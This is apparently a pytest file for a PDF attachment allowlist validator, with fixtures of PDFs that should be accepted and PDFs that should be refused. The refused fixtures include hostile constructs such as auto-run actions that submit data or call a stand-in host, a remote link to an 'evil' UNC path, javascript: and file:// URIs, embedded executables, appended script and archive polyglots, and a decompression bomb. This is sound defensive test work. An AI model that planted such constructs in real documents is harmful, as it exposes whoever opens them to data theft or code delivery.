"""What a PDF may hold is listed: whatever else a reader might do with it is refused."""

from __future__ import annotations

import pytest

from app.attachments import documents
from tests.attachments import samples

ELSEWHERE = r"/S /GoToR /F (\\\\evil\\x) /D [0 /Fit]"
SUBMITS = "/S /SubmitForm /F (http://192.0.2.1/)"
CALLS = "/S /URI /URI (http://192.0.2.1/)"
FILE = "/FS << /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"
ZIP = b"PK\x03\x04a.exe" + b"PK\x05\x06" + b"\0" * 18
NOT_LISTED = {
    "file on the page": samples.pdf_with_mark("FileAttachment", FILE),
    "file without its mark": samples.pdf_with_mark("Text", FILE),
    "file of the document": samples.pdf_with_root("/AF [<< /F (a.exe) >>]"),
    "link that sends a form": samples.pdf_with_link(SUBMITS),
    "link that fetches data": samples.pdf_with_link("/S /ImportData /F (a.fdf)"),
    "link to another machine": samples.pdf_with_link(ELSEWHERE),
    "link into a file inside": samples.pdf_with_link("/S /GoToE /T << /R /C /N (a) >>"),
    "link to a script": samples.pdf_with_link("/S /URI /URI (javascript:alert\\(1\\))"),
    "link to a file": samples.pdf_with_link("/S /URI /URI (file:///c:/windows/x.exe)"),
    "link to nothing known": samples.pdf_with_link("/S /URI /URI (www.example.gov.cn)"),
    "link and then more": samples.pdf_with_link(f"{CALLS} /Next [<< {ELSEWHERE} >>]"),
    "link that acts when it is touched": samples.pdf_with_mark(
        "Link", f"/AA << /E << {CALLS} >> >>"
    ),
    "link that is one elsewhere": samples.pdf_with_mark("Link", f"/PA << {SUBMITS} >>"),
    "unheard-of action": samples.pdf_with_link("/S /Later"),
    "film": samples.pdf_with_mark("Screen"),
    "solid": samples.pdf_with_mark("3D"),
    "field": samples.pdf_with_mark("Widget", "/FT /Btn /T (a)"),
    "page that acts when it is opened": samples.pdf_with_page(f"/AA << /O << {ELSEWHERE} >> >>"),
    "page that sends": samples.pdf_with_page(f"/AA << /O << {SUBMITS} >> >>"),
    "page that calls": samples.pdf_with_page(f"/AA << /O << {CALLS} >> >>"),
    "document that sends as it closes": samples.pdf_with_root(f"/AA << /WC << {SUBMITS} >> >>"),
    "document that calls": samples.pdf_with_root(f"/OpenAction << {CALLS} >>"),
    "document that goes and then calls": samples.pdf_with_root(
        f"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << {CALLS} >> >>"
    ),
    "entry of a later standard": samples.pdf_with_root("/Later << >>"),
    "collection of files": samples.pdf_with_root("/Collection << >>"),
    "form": samples.pdf_with_root("/AcroForm << /Fields [4 0 R] >>"),
    "names of more than places": samples.pdf_with_root("/Names << /Pages << >> >>"),
    "packed action": samples.packed_pdf(f"<< /Type /Action {ELSEWHERE} >>".encode()),
    "content that lies elsewhere": samples.pdf_with_stream(b"", "/F (http://192.0.2.1/)"),
    "drawing in another language": samples.pdf_with_stream(b"", "/Subtype /PS"),
    "solid without a mark": samples.pdf_with_stream(b"", "/Type /3D /Subtype /U3D"),
    "page behind": samples.pdf() + b"<!doctype html><script>alert(1)</script>",
    "archive behind": samples.pdf() + ZIP,
}
LISTED = {
    "link to the web": samples.pdf_with_link("/S /URI /URI (http://zj.example.gov.cn/a?b=1)"),
    "link to the safe web": samples.pdf_with_link("/S /URI /URI (HTTPS://zj.example.gov.cn)"),
    "link to a page": samples.pdf_with_link("/S /GoTo /D [3 0 R /Fit]"),
    "link without an action": samples.pdf_with_mark("Link", "/Dest [3 0 R /Fit]"),
    "text that somebody marked": samples.pdf_with_mark("Highlight", "/Contents (x)"),
    "start at a page": samples.pdf_with_root("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    "outline": samples.pdf_with_root(
        "/Outlines << /Type /Outlines /First << /Title (a) /A << /S /GoTo /D (b) >> >> >>"
    ),
    "structure with attributes": samples.pdf_with_root(
        "/StructTreeRoot << /K [<< /Type /StructElem /S /P /A << /O /Layout >> >>] >>"
    ),
    "form that nobody filled with fields": samples.pdf_with_root("/AcroForm << /Fields [] >>"),
    "scan": samples.pdf_with_image(),
    "text": samples.pdf_with_stream(b"BT (/AA /JS) Tj ET"),
    "blank end": samples.pdf() + b"\r\n\0\0\n",
}


@pytest.mark.parametrize("case", NOT_LISTED)
def test_what_is_on_no_list_is_refused(case):
    assert documents.verdict(NOT_LISTED[case], 200) == "active"


@pytest.mark.parametrize("case", LISTED)
def test_what_is_listed_is_taken(case):
    assert documents.verdict(LISTED[case], 200) == "ok"


def test_what_is_said_twice_is_not_taken():
    """Which of the two counts, each reader decides for itself."""
    twice = f"/A << {CALLS} >> /A << {ELSEWHERE} >>"

    assert documents.verdict(samples.pdf_with_mark("Link", twice), 200) == "broken"


def test_a_content_that_unpacks_to_more_than_anybody_reads_is_not_taken():
    packed = samples.pdf_with_stream(b" " * 150_000_000)

    assert len(packed) < 200_000
    assert documents.verdict(packed, 200) == "broken"
